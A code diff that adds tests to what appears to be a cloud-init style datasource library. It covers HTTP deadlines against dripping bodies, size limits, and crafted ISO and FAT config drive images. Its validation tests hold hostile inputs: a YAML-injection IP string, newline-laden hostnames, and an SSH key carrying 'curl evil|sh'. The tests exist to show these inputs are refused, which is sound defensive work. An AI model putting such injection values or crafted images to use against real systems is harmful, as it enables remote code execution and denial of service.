@@ -1,13 +1,17 @@
 /** Datasources against loopback stand-ins for EC2's IMDS and OpenStack's metadata service. */
-import { spawnSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { execFile, spawnSync } from 'node:child_process';
+import { promisify } from 'node:util';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { ec2Source } from '../../src/datasource/ec2';
-import { backoff, defaultRetryPolicy, fetchWithRetry } from '../../src/datasource/http';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { backoff, defaultRetryPolicy, fetchWithRetry, maxBody } from '../../src/datasource/http';
+import { postOmaha } from '../../src/update/attempter';
 import type { RetryPolicy } from '../../src/datasource/http';
-import { configDriveSource, openstackSource } from '../../src/datasource/openstack';
+import { configDriveSource, openstackMetadata, openstackSource } from '../../src/datasource/openstack';
 import { firstAnswer } from '../../src/datasource/select';
 import { cmdlineSource, cmdlineUrl, fileSource, urlSource } from '../../src/datasource/simple';
 import { FakeMetadata } from '../support/fake-metadata';
@@ -130,6 +134,69 @@ describe('HTTP retries', () => {
     await expect(fetchWithRetry({ url: 'http://127.0.0.1:9/' }, { ...fast, deadlineMs: 300 })).rejects.toThrow(/ECONNREFUSED.*gave up/);
   });
 
+  // Issue 12: a 5 s --http-deadline took 122 s against a body sent a byte a second. A 2 s bound
+  // (more than the drip's 1 s between bytes, so an idle timeout never fires): 60 s before the fix.
+  test('the deadline bounds the whole fetch, a body that drips a byte a second included', async () => {
+    const s = await serve({ imds: 'v1', userData: 'x' });
+    s.alwaysFail.set('2009-04-04/user-data', 'drip'); // 60 bytes: a minute if waited for
+    const started = Date.now();
+    await expect(fetchWithRetry({ url: `${s.url}2009-04-04/user-data` }, { ...defaultRetryPolicy, deadlineMs: 2_000 })).rejects.toThrow(/no complete answer within \d+ ms/);
+    expect(Date.now() - started).toBeLessThan(10_000);
+  });
+
+  test('one request is bounded by its timeout by the clock, not by idleness: Omaha requests too', async () => {
+    const s = await serve({ imds: 'v1', userData: 'x' });
+    s.alwaysFail.set('2009-04-04/user-data', 'drip'); // (any path that answers 200 drips)
+    const started = Date.now();
+    await expect(postOmaha(`${s.url}2009-04-04/user-data`, '<request/>', 2_000)).rejects.toThrow(/no complete answer within 2000 ms/);
+    expect(Date.now() - started).toBeLessThan(10_000);
+  });
+
+  test('coreos-cloudinit --http-deadline bounds a dripping --from-url', async () => {
+    const s = await serve({ imds: 'v1', userData: 'x' });
+    s.alwaysFail.set('2009-04-04/user-data', 'drip');
+    const started = Date.now();
+    // (execFile, not spawnSync: the stand-in serves from this process)
+    const r = await promisify(execFile)(process.execPath, [join(__dirname, '../../bin/coreos-cloudinit.js'), '--validate', '--from-url', `${s.url}2009-04-04/user-data`, '--http-deadline', '2000']).catch((e: { code: number; stderr: string }) => e);
+    expect(r).toMatchObject({ code: 1, stderr: expect.stringMatching(/no complete answer within/) });
+    expect(s.requests.length).toBeGreaterThan(0);
+    expect(Date.now() - started).toBeLessThan(10_000);
+  });
+
+  describe('a body over 16 MiB is refused at once, not retried', () => {
+    let server: http.Server;
+    let url: string;
+    let requests = 0;
+    beforeAll(async () => {
+      server = http.createServer((req, res) => {
+        requests++;
+        if (req.url === '/declared') {
+          res.writeHead(200, { 'content-length': String(maxBody + 1) });
+          res.write('x'); // and then nothing: only the header says how big
+          return;
+        }
+        res.writeHead(200); // chunked, no length: 1 MiB chunks until the client hangs up
+        const chunk = Buffer.alloc(1024 * 1024);
+        const more = () => {
+          while (!res.destroyed && res.write(chunk));
+          if (!res.destroyed) res.once('drain', more);
+        };
+        more();
+      });
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    });
+    afterAll(() => {
+      server.closeAllConnections();
+      server.close();
+    });
+    test.each(['declared', 'chunked'])('%s', async (path) => {
+      requests = 0;
+      await expect(fetchWithRetry({ url: `${url}/${path}` }, defaultRetryPolicy)).rejects.toMatchObject({ retryable: false, message: expect.stringMatching(/16777216/) });
+      expect(requests).toBe(1);
+    });
+  });
+
   test('backoff doubles up to its cap, with full jitter', () => {
     const top = (n: number) => backoff(n, defaultRetryPolicy, () => 1);
     expect([1, 2, 3, 4, 6, 10].map(top)).toEqual([100, 200, 400, 800, 3200, 5000]);
@@ -165,6 +232,64 @@ describe('OpenStack', () => {
     writeFileSync(join(dir, 'openstack/latest/user_data'), '#cloud-config\nhostname: cd\n');
     expect(await configDriveSource(dir).fetch()).toMatchObject({ source: 'configdrive', metadata: { instanceId: openstack.metaData.uuid, sshPublicKeys: [key] } });
     expect(await configDriveSource(join(dir, 'nothing')).fetch()).toBeUndefined();
+  });
+
+  test('a config drive directory: a file over 16 MiB or a FIFO is refused before it is read', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'bootsmith-cd-'));
+    mkdirSync(join(dir, 'openstack/latest'), { recursive: true });
+    writeFileSync(join(dir, 'openstack/latest/meta_data.json'), JSON.stringify(openstack.metaData));
+    spawnSync('truncate', ['-s', '1G', join(dir, 'openstack/latest/user_data')]);
+    await expect(configDriveSource(dir).fetch()).rejects.toThrow(/^openstack config drive: openstack\/latest\/user_data is 1073741824 bytes, more than the 16777216 accepted$/);
+    rmSync(join(dir, 'openstack/latest/user_data'));
+    expect(spawnSync('mkfifo', [join(dir, 'openstack/latest/user_data')]).status).toBe(0); // no writer: reading it would wait for ever
+    await expect(configDriveSource(dir).fetch()).rejects.toThrow(/user_data is not a regular file/);
+  });
+});
+
+describe('metadata values are parsed into their type, or refused naming the source and field', () => {
+  const meta = { uuid: 'u-1', hostname: 'node-1', public_keys: { k: key } };
+  const files = (metaData: object, networkData?: object) => ({
+    metaData: Buffer.from(JSON.stringify(metaData)),
+    userData: undefined,
+    networkData: networkData ? Buffer.from(JSON.stringify(networkData)) : undefined,
+  });
+  const injection = '1.2.3.4"\nwrite_files:\n  - path: /etc/injected\n    content: x\n#';
+
+  test.each([
+    ['an address with YAML after it', files(meta, { networks: [{ type: 'ipv6', ip_address: injection }] }), /^openstack config drive: network_data\.json networks\[0\]\.ip_address: not an IP address: "1\.2\.3\.4\\"\\nwrite_files/],
+    ['an address with a zone', files(meta, { networks: [{ type: 'ipv4', ip_address: '10.0.0.1' }, { type: 'ipv6', ip_address: 'fe80::1%eth0' }] }), /networks\[1\]\.ip_address: not an IP address/],
+    ['an IPv4 address where the type says ipv6', files(meta, { networks: [{ type: 'ipv6', ip_address: '10.0.0.1' }] }), /networks\[0\]\.ip_address: not an IPv6 address/],
+    ['an address that is not a string', files(meta, { networks: [{ type: 'ipv4', ip_address: ['10.0.0.1'] }] }), /networks\[0\]\.ip_address: not an IP address/],
+    ['a hostname with a newline', files({ ...meta, hostname: 'node\n127.0.0.1 bank' }), /^openstack config drive: meta_data\.json hostname: not a host name \(it holds "\\n"/],
+    ['a hostname with a space', files({ ...meta, hostname: 'node 1' }), /meta_data\.json hostname: not a host name/],
+    ['an instance id with a newline', files({ ...meta, uuid: 'a\nchanged instance x' }), /meta_data\.json uuid: not an instance id/],
+    ['two keys in one value', files({ ...meta, public_keys: { k: `${key}\n${key}` } }), /meta_data\.json public_keys\.k: an SSH key is one line/],
+    ['a key that is no key', files({ ...meta, public_keys: { k: 'command="curl evil|sh" nothing' } }), /public_keys\.k: not an SSH public key/],
+  ])('config drive: %s', (_name, given, message) => {
+    expect(() => openstackMetadata(given, 'configdrive')).toThrow(message);
+  });
+
+  test('valid values pass, typed as they were', () => {
+    const got = openstackMetadata(files(meta, { networks: [{ type: 'ipv4_dhcp' }, { type: 'ipv4', ip_address: '10.1.0.4' }, { type: 'ipv6', ip_address: '2001:db8::4' }] }), 'openstack');
+    expect(got.metadata).toEqual({ instanceId: 'u-1', hostname: 'node-1', privateIpv4: '10.1.0.4', privateIpv6: '2001:db8::4', sshPublicKeys: [key] });
+  });
+
+  test.each([
+    ['local-ipv4', '10.0.0.5\nwrite_files: []', /^ec2 metadata service: meta-data\/local-ipv4: not an IP address/],
+    ['public-ipv4', 'fd00::1', /meta-data\/public-ipv4: not an IPv4 address/],
+    ['ipv6', '"fd00::1"', /meta-data\/ipv6: not an IP address/],
+    ['hostname', 'host"name', /meta-data\/hostname: not a host name/],
+    ['instance-id', 'i-1\u0007', /meta-data\/instance-id: not an instance id/],
+  ])('EC2: a hostile %s is refused', async (field, value, message) => {
+    const s = await serve({ ...ec2Data, imds: 'v1', metaData: { ...ec2Data.metaData, [field]: value } });
+    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(message);
+  });
+
+  test('EC2: a public key list longer than any machine has is refused, not fetched key by key', async () => {
+    const keys = Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, key]));
+    const s = await serve({ ...ec2Data, imds: 'v1', keys });
+    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(/lists 101 keys, more than 100/);
+    expect(s.requests.filter((r) => r.path.endsWith('openssh-key'))).toEqual([]);
   });
 });
 
@@ -237,12 +362,144 @@ const haveGenisoimage = spawnSync('genisoimage', ['-version']).status === 0;
             await configDriveSource(file).fetch();
           } catch (err) {
             expect(err).toBeInstanceOf(Error);
+            // Our messages: the image's (ImageError), the label, the JSON files' or their values'; never a RangeError's.
+            expect((err as Error).message).toMatch(/^(config drive image: |\S+ is labelled |meta_data\.json |network_data\.json |openstack config drive: )/);
           }
         }),
         { numRuns: 300 },
       );
       expect(Date.now() - started).toBeLessThan(30_000);
     }
+  });
+
+  // Issue 12: a crafted directory extent took 30 s; corrupt records gave raw RangeError text.
+  describe('crafted images cost milliseconds and give our message', () => {
+    const pvd = 16 * 2048;
+    /** The records of the directory at `offset`: where each is, its name, extent and size. */
+    const records = (img: Buffer, offset: number) => {
+      const out: Array<{ at: number; name: string; extent: number; size: number }> = [];
+      for (let at = offset; img[at]! > 0; at += img[at]!) {
+        out.push({ at, name: img.toString('latin1', at + 33, at + 33 + img[at + 32]!), extent: img.readUInt32LE(at + 2), size: img.readUInt32LE(at + 10) });
+      }
+      return out;
+    };
+    /** A Rock Ridge image (no Joliet tree to fall back to), patched by `patch`, written to a file. */
+    const crafted = (name: string, patch: (img: Buffer, root: { extent: number; size: number }) => Buffer, args = ['-r', '-V', 'config-2']) => {
+      const img = readFileSync(image(`${name}-base.iso`, args));
+      const root = { extent: img.readUInt32LE(pvd + 156 + 2), size: img.readUInt32LE(pvd + 156 + 10) };
+      const file = join(dir, `${name}.iso`);
+      writeFileSync(file, patch(img, root));
+      return file;
+    };
+    const timed = async (file: string) => {
+      const started = Date.now();
+      const outcome: { ok?: unknown; error?: string } = await configDriveSource(file).fetch().then(
+        (v) => ({ ok: v }),
+        (err: Error) => ({ error: err.message }),
+      );
+      return { ...outcome, ms: Date.now() - started };
+    };
+
+    test('a 40 MiB root directory of one-byte records is refused at once', async () => {
+      const file = crafted('huge-dir', (img) => {
+        const extra = 40 * 1024 * 1024;
+        const at = img.length / 2048;
+        const out = Buffer.concat([img, Buffer.alloc(extra, 1)]);
+        out.writeUInt32LE(out.length / 2048, pvd + 80); // the volume covers the extra bytes
+        out.writeUInt32LE(at, pvd + 156 + 2);
+        out.writeUInt32LE(extra, pvd + 156 + 10);
+        return out;
+      });
+      const got = await timed(file);
+      expect(got.error).toMatch(/^config drive image: directory record at offset \d+: length 1 does not hold|^config drive image: the directory at offset \d+ is 41943040 bytes, more than/);
+      expect(got.ms).toBeLessThan(1_000);
+    });
+
+    test('a record pointing outside the image', async () => {
+      const file = crafted('outside', (img, root) => {
+        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
+        img.writeUInt32LE(0x00ffffff, entry.at + 2);
+        return img;
+      });
+      expect(await timed(file)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: extent beyond the image/) });
+    });
+
+    test('a directory whose extent is larger than the image', async () => {
+      const file = crafted('long-extent', (img, root) => {
+        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
+        img.writeUInt32LE(0xfffff800, entry.at + 10);
+        return img;
+      });
+      expect(await timed(file)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: extent beyond the image/) });
+    });
+
+    test('a directory that points back at the root (a loop) is walked once per path component', async () => {
+      const file = crafted('loop', (img, root) => {
+        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
+        img.writeUInt32LE(root.extent, entry.at + 2);
+        img.writeUInt32LE(root.size, entry.at + 10);
+        return img;
+      });
+      const got = await timed(file);
+      expect(got).toMatchObject({ ok: undefined });
+      expect(got.ms).toBeLessThan(1_000);
+    });
+
+    test('a record too short for its name, and a Joliet name of odd length: our message, not a RangeError', async () => {
+      const short = crafted('short', (img, root) => {
+        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
+        img[entry.at + 32] = 200; // a 200-byte name in a record of under 255 bytes
+        return img;
+      });
+      expect(await timed(short)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: length \d+ does not hold its 200-byte name/) });
+      const odd = crafted('odd-joliet', (img) => {
+        // The Joliet root's first entry after . and ..: make its name length odd.
+        let svd = pvd + 2048;
+        while (img[svd] !== 2) svd += 2048;
+        const rootExtent = img.readUInt32LE(svd + 156 + 2);
+        const entry = records(img, rootExtent * 2048)[2]!;
+        img[entry.at + 32] = img[entry.at + 32]! - 1;
+        return img;
+      }, ['-J', '-V', 'config-2']);
+      const got = await timed(odd);
+      expect(got.error).toMatch(/^config drive image: directory record at offset \d+: a Joliet name of an odd length/);
+      expect(got.error).not.toMatch(/RangeError|ERR_|16-bits/);
+    });
+  });
+
+  (spawnSync('mkfs.vfat', ['--help']).status !== null ? test : test.skip)('FAT: a cluster beyond the image, and a directory chain that loops: our message, at once', async () => {
+    const base = join(dir, 'crafted-fat.img');
+    spawnSync('truncate', ['-s', '2048K', base]);
+    spawnSync('mkfs.vfat', ['-F', '12', '-n', 'config-2', base]);
+    spawnSync('mcopy', ['-s', '-i', base, join(tree, 'openstack'), '::/']);
+    const img = readFileSync(base);
+    // FAT12 geometry from the boot sector: the root directory follows the FATs.
+    const bps = img.readUInt16LE(11);
+    const rootAt = (img.readUInt16LE(14) + img[16]! * img.readUInt16LE(22)) * bps;
+    let entry = rootAt;
+    while (!img.toString('latin1', entry, entry + 8).startsWith('OPENST') || img[entry + 11] !== 0x10) {
+      entry += 32;
+      if (entry > rootAt + 16 * 32) throw new Error('no openstack directory in the root');
+    }
+    const cluster = img.readUInt16LE(entry + 26);
+    const patched = (name: string, patch: (b: Buffer) => void) => {
+      const b = Buffer.from(img);
+      patch(b);
+      writeFileSync(join(dir, name), b);
+      return join(dir, name);
+    };
+    const beyond = patched('fat-beyond.img', (b) => b.writeUInt16LE(0xff0, entry + 26));
+    await expect(configDriveSource(beyond).fetch()).rejects.toThrow(/^config drive image: cluster 4080 is beyond the last cluster/);
+    // The directory's cluster chain points back at itself in the FAT (12-bit entries).
+    const loop = patched('fat-loop.img', (b) => {
+      const fat = img.readUInt16LE(14) * bps;
+      const at = fat + Math.floor(cluster * 1.5);
+      const pair = b.readUInt16LE(at);
+      b.writeUInt16LE(cluster % 2 === 0 ? (pair & 0xf000) | cluster : (pair & 0x000f) | (cluster << 4), at);
+    });
+    const started = Date.now();
+    await expect(configDriveSource(loop).fetch()).rejects.toThrow(/^config drive image: the FAT has a loop in a cluster chain/);
+    expect(Date.now() - started).toBeLessThan(1_000);
   });
 
   test('an image with another label is not a config drive', async () => {
